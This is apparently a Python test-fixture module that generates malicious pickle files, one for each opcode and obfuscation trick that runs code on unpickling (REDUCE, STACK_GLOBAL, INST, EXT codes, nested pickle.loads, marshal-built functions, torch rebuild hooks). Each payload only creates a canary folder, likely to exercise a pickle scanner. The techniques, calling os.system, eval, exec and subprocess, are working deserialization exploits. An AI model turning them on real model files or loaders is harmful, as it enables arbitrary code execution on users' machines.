"""Pickles that do something when they are loaded: one for each opcode that can, and each way to hide it.

A payload is the opcodes between PROTO and STOP. What it does is to make a folder, the *canary*. The functions and
classes that only the payloads use are in a module `evil`, which `write_evil` writes.
"""

from __future__ import annotations

import marshal
import os
import pickle
from collections.abc import Callable, Iterator
from pathlib import Path
from struct import pack
from typing import NamedTuple

EVIL = '''
import copyreg, os

def sing(where):
    os.mkdir(where)

class Bird:
    """Every special method that an unpickler may call sings."""
    where = None
    def __new__(cls, where=None, loud=None):
        if loud: sing(loud)
        return super().__new__(cls)
    def __init__(self, where=None, loud=None):
        self.where = where
    def __setstate__(self, state):
        sing(state)
    def append(self, item):
        sing(item)
    def extend(self, items):
        sing(items[0])
    def add(self, item):
        sing(item)
    def __setitem__(self, key, value):
        sing(value)

class Egg:
    """Sings when it is hashed: as the key of a dictionary, or in a set."""
    def __setstate__(self, state):
        self.where = state
    def __hash__(self):
        sing(self.where)
        return 1

class Nest:
    def __reduce__(self):
        return sing, ()
    def __call__(self, where):
        sing(where)

nest = Nest()
for code in (7, 777, 77777):
    copyreg.add_extension("evil", {7: "sing", 777: "Bird", 77777: "nest"}[code], code)
'''
PYTHON_2 = ("__builtin__", "commands")
IMPORTED = "import os\nos.mkdir({where!r})\nname = 1\n"


class Payload(NamedTuple):
    """What is loaded, and whether Python's own unpickler sings then: not where it lacks a function or a hook."""

    body: bytes
    sings: bool
    protocol: int = 4

    @property
    def pickle(self) -> bytes:
        """A pickle of its own."""
        return (b"\x80" + bytes([self.protocol]) if self.protocol else b"") + self.body + b"."


# --- opcodes


def text(value: str) -> bytes:
    raw = value.encode()
    return b"X" + pack("<I", len(raw)) + raw


def short(value: str) -> bytes:
    raw = value.encode()
    return b"\x8c" + bytes([len(raw)]) + raw


def long_text(value: str) -> bytes:
    raw = value.encode()
    return b"\x8d" + pack("<Q", len(raw)) + raw


def data(value: bytes) -> bytes:
    return b"B" + pack("<I", len(value)) + value


def name(module: str, attribute: str) -> bytes:
    return b"c" + module.encode() + b"\n" + attribute.encode() + b"\n"


def put(number: int) -> bytes:
    return b"r" + pack("<I", number)


def get(number: int) -> bytes:
    return b"j" + pack("<I", number)


BIRD = name("evil", "Bird") + b")R"


# --- functions that do harm, and their arguments


def functions(where: str) -> Iterator[tuple[str, str, str, list[bytes], bool]]:
    """A label, module, attribute, the arguments' opcodes, and whether Python finds it."""
    code = f"__import__('os').mkdir({where!r})"
    yield "os.mkdir", "os", "mkdir", [text(where)], True
    yield "posix.mkdir", "posix", "mkdir", [text(where)], True
    yield "nt.mkdir", "nt", "mkdir", [text(where)], False
    yield "os.system", "os", "system", [text(f"mkdir '{where}'")], True
    yield "eval", "builtins", "eval", [text(code)], True
    yield "exec", "builtins", "exec", [text(code)], True
    yield "python 2 eval", "__builtin__", "eval", [text(code)], True
    yield "subprocess", "subprocess", "check_call", [b"](" + text("mkdir") + text(where) + b"e"], True
    yield "getoutput", "commands", "getoutput", [text(f"mkdir '{where}'")], True
    yield "makedirs", "os", "makedirs", [text(where)], True
    yield "timeit", "timeit", "timeit", [text(code), text("pass"), name("time", "time"), b"K\x01"], True
    yield "profile", "cProfile", "run", [text(code)], True
    yield "evil.sing", "evil", "sing", [text(where)], True


def ways(module: str, attribute: str, arguments: list[bytes]) -> Iterator[tuple[str, bytes]]:
    """The ways to call a function."""
    inside = b"".join(arguments)
    every = b"(" + inside + b"t"
    found = name(module, attribute)
    yield "REDUCE", found + every + b"R"
    yield "STACK_GLOBAL", short(module) + short(attribute) + b"\x93" + every + b"R"
    yield "long STACK_GLOBAL", long_text(module) + text(attribute) + b"\x93" + every + b"R"
    memo = text(module) + put(900) + b"0" + text(attribute) + put(901) + b"0"
    yield "STACK_GLOBAL of the memo", memo + get(900) + get(901) + b"\x93" + every + b"R"
    yield "memoized", found + put(902) + b"0" + every + put(903) + b"0" + get(902) + get(903) + b"R"
    yield "OBJ", b"(" + found + inside + b"o"
    yield "INST", b"(" + inside + b"i" + module.encode() + b"\n" + attribute.encode() + b"\n"
    yield "popped", b"N" + found + every + b"R0"
    yield "popped mark", b"N(" + found + every + b"R1"
    yield "duplicated", found + b"2" + every + b"R0" + b"0N"
    yield "in a tuple", found + every + b"R\x85"
    yield "a key", b"}" + found + every + b"RNs"


def special(where: str) -> Iterator[tuple[str, bytes, bool]]:
    """Opcodes that call a method, a registered class, or what a name leads to."""
    at = text(where)
    yield "BUILD", BIRD + at + b"b", True
    yield "APPEND", BIRD + at + b"a", True
    yield "APPENDS", BIRD + b"(" + at + b"e", True
    yield "SETITEM", BIRD + b"N" + at + b"s", True
    yield "SETITEMS", BIRD + b"(N" + at + b"u", True
    yield "ADDITEMS", BIRD + b"(" + at + b"\x90", True
    yield "NEWOBJ", name("evil", "Bird") + b"N" + at + b"\x86\x81", True
    yield "NEWOBJ_EX", name("evil", "Bird") + b")}" + text("loud") + at + b"s\x92", True
    yield "hash of a key", b"}" + name("evil", "Egg") + b")\x81" + at + b"bNs", True
    yield "hash in a set", b"\x8f(" + name("evil", "Egg") + b")\x81" + at + b"b\x90", True
    yield "hash in a frozen set", b"(" + name("evil", "Egg") + b")\x81" + at + b"b\x91", True
    yield "EXT1", b"\x82\x07" + at + b"\x85R", True
    yield "EXT2", b"\x83" + pack("<H", 777) + b"N" + at + b"\x86\x81", True
    yield "EXT4", b"\x84" + pack("<i", 77777) + at + b"\x85R", True
    yield "an object that is called", name("evil", "nest") + at + b"\x85R", True
    yield "a dotted name", short("evil") + short("Bird.append.__globals__") + b"\x93" + b"0N", False
    yield "a dotted function", short("evil") + short("os.mkdir") + b"\x93" + at + b"\x85R", True
    yield "a class by its string", text("evil") + text("Bird") + b"\x93N" + at + b"\x86R", True
    yield (
        "getattr",
        name("builtins", "getattr") + name("evil", "nest") + text("__call__") + b"\x86R" + at + b"\x85R",
        True,
    )
    yield "state of a module", name("builtins", "__import__") + text("evil") + b"\x85R}" + text("x") + at + b"sb", False
    yield "BINPERSID", name("evil", "sing") + at + b"\x85RQ", True
    yield "PERSID", b"P" + where.encode() + b"\n", False
    yield "NEXT_BUFFER", b"\x97\x98", False
    yield "import alone", name("evil_alone", "name"), True
    yield "import alone by STACK_GLOBAL", short("evil_too") + short("name") + b"\x93", True


def nested(where: str) -> Iterator[tuple[str, bytes, bool]]:
    """Pickles and programs within pickles."""
    at = text(where)
    inner = b"\x80\x02" + name("evil", "sing") + at + b"\x85R."
    loads = name("pickle", "loads")
    yield "pickle.loads", loads + data(inner) + b"\x85R", True
    yield (
        "pickle.loads of latin-1",
        loads + name("_codecs", "encode") + text(inner.decode("latin-1")) + text("latin1") + b"\x86R\x85R",
        True,
    )
    twice = b"\x80\x02" + loads + data(inner) + b"\x85R."
    yield "pickle.loads twice", loads + data(twice) + b"\x85R", True
    yield "torch.storage._load_from_bytes", name("torch.storage", "_load_from_bytes") + data(inner) + b"\x85R", True
    yield "numpy.load", name("numpy", "load") + data(inner) + b"\x85R", False
    program = marshal.dumps(compile(f"__import__('os').mkdir({where!r})", "x", "exec"))
    yield (
        "a function made of marshal",
        (
            name("types", "FunctionType")
            + name("marshal", "loads")
            + data(program)
            + b"\x85R"
            + name("builtins", "globals")
            + b")R\x86R)R"
        ),
        True,
    )
    yield (
        "map, forced by list",
        (name("builtins", "list") + name("builtins", "map") + name("evil", "sing") + b"](" + at + b"e\x86R\x85R"),
        True,
    )
    yield "partial", name("functools", "partial") + name("evil", "sing") + at + b"\x86R)R", True
    yield (
        "a tensor's hooks",
        (
            name("torch._utils", "_rebuild_tensor_v2")
            + b"(N"
            + b"K\0)"
            + b")"
            + b"\x89"
            + name("evil", "sing")
            + at
            + b"\x85Rt"
            + b"0"
            + b"0N"
        ),
        True,
    )
    yield (
        "a parameter of anything",
        name("torch._utils", "_rebuild_parameter") + name("evil", "sing") + at + b"\x85R\x88N\x870" + b"0N",
        True,
    )
    yield (
        "a type for from_type_v2",
        name("evil", "sing") + at + b"\x85R0" + name("torch._tensor", "_rebuild_from_type_v2"),
        True,
    )
    yield (
        "an ordered dictionary's state",
        name("collections", "OrderedDict") + b")R" + name("evil", "sing") + at + b"\x85Rb",
        True,
    )
    yield "old text protocol", b"cevil\nsing\n(V" + where.encode() + b"\ntR", True
    yield "old STRING", b"cevil\nsing\n(S'" + where.encode() + b"'\ntR", True
    yield "old PUT and GET", b"cevil\nsing\np99\n0(V" + where.encode() + b"\ntp98\n0g99\ng98\nR", True


class Deed(NamedTuple):
    """What makes the canary when it is loaded."""

    where: str

    def __reduce__(self) -> tuple[Callable[[str], None], tuple[str]]:
        return os.mkdir, (self.where,)


def dumped(where: str, protocol: int) -> Payload:
    """A deed as Python itself writes it."""
    content = pickle.dumps(Deed(where), protocol)
    return Payload(content[2 if protocol > 1 else 0 : -1], True, protocol if protocol > 1 else 0)


def payloads(folder: Path) -> dict[str, Payload]:
    """All payloads by name; the canary of each is a folder of its number in the given one."""
    found: dict[str, Payload] = {}

    def add(label: str, make: Callable[[str], Payload]) -> None:
        found[label] = make(str(folder / str(len(found))))

    labels = [(label, way) for label, *what in functions("") for way, _ in ways("", "", [])]
    for label, way in labels:

        def call(where: str, label: str = label, way: str = way) -> Payload:
            module, attribute, arguments, sings = next(what for one, *what in functions(where) if one == label)
            return Payload(dict(ways(module, attribute, arguments))[way], sings, 2 if module in PYTHON_2 else 4)

        add(f"{label} by {way}", call)
    for protocol in range(pickle.HIGHEST_PROTOCOL + 1):
        add(f"as protocol {protocol} writes it", lambda where, number=protocol: dumped(where, number))  # type: ignore[misc]
    for source in (special, nested):
        for label, _, _ in source(""):

            def one(where: str, label: str = label, source=source) -> Payload:  # type: ignore[no-untyped-def]
                protocol = 0 if label.startswith("old ") else 4
                return next(Payload(body, sings, protocol) for other, body, sings in source(where) if other == label)

            add(label, one)
    return found


def canaries(folder: Path) -> dict[str, Path]:
    """Where the canary of each payload appears."""
    return {label: folder / str(number) for number, label in enumerate(payloads(folder))}


def write_evil(modules: Path, folder: Path) -> None:
    """Write the modules that payloads use; two of them sing when they are imported."""
    where = canaries(folder)
    (modules / "evil.py").write_text(EVIL)
    (modules / "evil_alone.py").write_text(IMPORTED.format(where=str(where["import alone"])))
    (modules / "evil_too.py").write_text(IMPORTED.format(where=str(where["import alone by STACK_GLOBAL"])))


def honest(value: object, protocol: int = 2) -> bytes:
    """The opcodes of a harmless value."""
    dumped = pickle.dumps(value, protocol)
    return dumped[2:-1]
